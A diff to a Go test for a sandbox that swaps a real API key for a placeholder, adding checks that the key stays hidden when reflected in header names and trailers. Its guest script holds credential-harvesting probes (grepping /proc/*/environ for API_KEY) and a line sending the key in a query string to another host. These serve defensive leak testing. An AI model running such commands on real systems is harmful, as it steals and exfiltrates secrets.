@@ -46,6 +46,16 @@ func startRecordingUpstream(t *testing.T) *recordingUpstream {
 		u.seen.WriteString(b.String() + "\n")
 		u.mu.Unlock()
 		w.Header().Set("X-Echo-Auth", r.Header.Get("Authorization"))
+		if r.URL.Path == "/reflect" {
+			// The value in a header name and in trailers, announced or not.
+			v := strings.TrimPrefix(r.Header.Get("Authorization"), "Bearer ")
+			w.Header().Set("X-Seen-"+v, "1")
+			w.Header().Set("Trailer", "X-Tr-Value")
+			fmt.Fprint(w, "reflect\n")
+			w.Header().Set("X-Tr-Value", v)
+			w.Header().Set(http.TrailerPrefix+"X-Late-"+v, v)
+			return
+		}
 		fmt.Fprint(w, "echo "+b.String())
 	})
 	for _, port := range []string{"80", "443"} {
@@ -73,6 +83,7 @@ echo "ENV $(env | grep '^API_KEY=')"
 cat /proc/[0-9]*/environ 2>/dev/null | tr '\0' '\n' | grep '^API_KEY=' | sort -u | sed 's/^/ENVIRON /'
 echo "CHECK curl $(curl -sS -o /tmp/curl.out -w '%{http_code}' -H "Authorization: Bearer $API_KEY" https://api.test/curl)"
 sed 's/^/CURLBODY /' /tmp/curl.out
+curl -sS --http1.1 --raw -i -H "Authorization: Bearer $API_KEY" https://api.test/reflect | tr -d '\r' | sed 's/^/REFLECT /'
 echo "CHECK python $(python3 -c 'import os,urllib.request as u; print(u.urlopen("https://api.test/py?key="+os.environ["API_KEY"]).status)' 2>&1 | tail -1)"
 echo "CHECK plain_leak $(curl -s -o /dev/null -w '%{http_code} %header{x-crackbox-error}' "http://other.test/?k=$API_KEY")"
 echo "CHECK plain_ok $(curl -s -o /dev/null -w '%{http_code}' http://other.test/ok)"
@@ -109,7 +120,7 @@ func TestSecretInjectionGuest(t *testing.T) {
 		t.Fatalf("exit %d", code)
 	}
 	stdout := out.String()
-	if strings.Contains(stdout+errb.String(), secretValueText) {
+	if strings.Contains(strings.ToLower(stdout+errb.String()), strings.ToLower(secretValueText)) {
 		t.Fatal("the value reached the guest's output or crackbox's stderr")
 	}
 	var ph string
@@ -144,6 +155,9 @@ func TestSecretInjectionGuest(t *testing.T) {
 	}
 	if !strings.Contains(stdout, "CURLBODY Authorization: Bearer "+ph) {
 		t.Errorf("the echoed header did not come back as the placeholder")
+	}
+	if !strings.Contains(stdout, "REFLECT X-Tr-Value: "+ph) || !strings.Contains(strings.ToLower(stdout), "reflect x-seen-"+ph) {
+		t.Errorf("the value reflected in a header name and a trailer did not come back as the placeholder")
 	}
 	if !strings.Contains(errb.String(), "where it is not bound: API_KEY (1)") {
 		t.Errorf("exit summary does not name the secret:\n%s", errb.String())
